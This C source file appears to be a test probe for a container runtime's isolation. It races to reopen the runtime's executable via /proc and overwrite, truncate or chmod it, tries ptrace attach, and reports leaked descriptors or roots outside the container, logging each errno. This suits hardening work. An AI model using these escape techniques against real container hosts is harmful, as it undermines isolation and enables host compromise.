/*
 * thief: looks at every process that appears in its pid namespace, as fast as it can, and tells what of a container
 * runtime's it could get hold of. One line for each kind of loot, the first time:
 *
 *   ready            it looks
 *   traced           ptrace(2) was allowed while the process was the runtime's helper
 *   fd TARGET        a descriptor of it leads to a file, or to a directory outside of the container
 *   root TARGET      its root or working directory is not the container's
 *   image            its executable was opened for reading; then, each with its errno, 0 for success:
 *   image-open E, image-write E, image-truncate E, image-mode E   what was tried on that executable
 *
 * With TRACE in its environment it traces; with HOLD as well it never lets go nor looks at what it traces.
 * It keeps the executable open for writing if it can: an executable that is being written to cannot be executed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define SEEN 65536
#define PLACE 4096

static unsigned char known[SEEN];
static struct stat own_root;
static int told_traced, told_fd, told_root, told_image;

__attribute__((format(printf, 2, 3))) static void tell(int *told, const char *format, ...) {
	va_list arguments;
	if ((*told)++) return;
	va_start(arguments, format);
	vprintf(format, arguments);
	va_end(arguments);
	putchar('\n');
	fflush(stdout);
}

static int try_read_link(const char *path, char *target) {
	ssize_t length = readlink(path, target, PLACE - 1);
	target[length < 0 ? 0 : length] = '\0';
	return length >= 0;
}

static int is_runtime(int pid) {
	char path[64], target[PLACE];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	return try_read_link(path, target) && strstr(target, "memfd:tsrun") != NULL;
}

static int outcome(long result) {
	return result == -1 ? errno : 0;
}

static void spoil(int image) {
	char path[64];
	int again = 0;
	tell(&told_image, "image");
	snprintf(path, sizeof path, "/proc/self/fd/%d", image);
	/* While it is executed the answer is ETXTBSY. */
	int writable;
	do writable = open(path, O_RDWR);
	while (writable == -1 && errno == ETXTBSY);
	printf("image-open %d\n", outcome(writable));
	printf("image-write %d\n", outcome(write(writable, "#!/bin/evil\n", 12)));
	printf("image-truncate %d\n", outcome(truncate(path, 0)));
	again = chmod(path, 0);
	printf("image-mode %d\n", outcome(again));
	fflush(stdout);
}

static void look_at_image(int pid) {
	char path[64], target[PLACE];
	if (told_image) return;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int image = open(path, O_RDONLY | O_CLOEXEC);
	if (image == -1) return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", image);
	if (try_read_link(path, target) && strstr(target, "memfd:tsrun") != NULL)
		spoil(image);
	else
		close(image);
}

static void look_at_place(int pid, const char *name) {
	char path[64], target[PLACE];
	struct stat status;
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int place = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (place == -1) return;
	int root = strcmp(name, "root") == 0;
	snprintf(path, sizeof path, "/proc/self/fd/%d", place);
	if (fstat(place, &status) == 0 && try_read_link(path, target) &&
	    ((root && (status.st_dev != own_root.st_dev || status.st_ino != own_root.st_ino)) || target[0] != '/'))
		tell(&told_root, "root %s %s", name, target);
	close(place);
}

/* Whether all that lies above a directory ends at our own root. */
static int is_inside(const char *path) {
	char above[PLACE];
	struct stat top;
	snprintf(above, sizeof above, "%s/../../../../../../../../../../../../../../../..", path);
	return stat(above, &top) == 0 && top.st_dev == own_root.st_dev && top.st_ino == own_root.st_ino;
}

static int is_harmless(const char *path, const char *target) {
	struct stat status;
	if (target[0] != '/' || strcmp(target, "/dev/null") == 0 || strcmp(target, "/null") == 0) return 1;
	if (strncmp(target, "/dev/pts", 8) == 0) return 1;
	return stat(path, &status) == -1 || (S_ISDIR(status.st_mode) && is_inside(path));
}

static void look_at_descriptors(int pid) {
	char path[512], target[PLACE];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	if (directory == NULL) return;
	struct dirent *entry;
	while ((entry = readdir(directory)) != NULL) {
		if (entry->d_name[0] == '.') continue;
		snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
		if (!try_read_link(path, target) || is_harmless(path, target)) continue;
		/* What the program itself opens once it runs is its own affair. */
		if (is_runtime(pid)) tell(&told_fd, "fd %s", target);
	}
	closedir(directory);
}

static void try_tracing(int pid) {
	if (told_traced || ptrace(PTRACE_SEIZE, pid, NULL, NULL) == -1) return;
	if (is_runtime(pid)) tell(&told_traced, "traced");
	if (getenv("HOLD") != NULL) return;
	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	(void)waitpid(pid, NULL, __WALL);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void look_at(int pid) {
	look_at_image(pid);
	look_at_place(pid, "root");
	look_at_place(pid, "cwd");
	look_at_descriptors(pid);
	if (getenv("TRACE") != NULL) try_tracing(pid);
}

static void each_process(void (*visit)(int pid)) {
	DIR *directory = opendir("/proc");
	if (directory == NULL) return;
	struct dirent *entry;
	while ((entry = readdir(directory)) != NULL) {
		int pid = atoi(entry->d_name);
		if (pid > 0 && pid < SEEN && !known[pid]) visit(pid);
	}
	closedir(directory);
}

static void know(int pid) {
	known[pid] = 1;
}

int main(void) {
	if (stat("/", &own_root) == -1) return 1;
	each_process(know);
	puts("ready");
	fflush(stdout);
	for (;;) each_process(look_at);
}
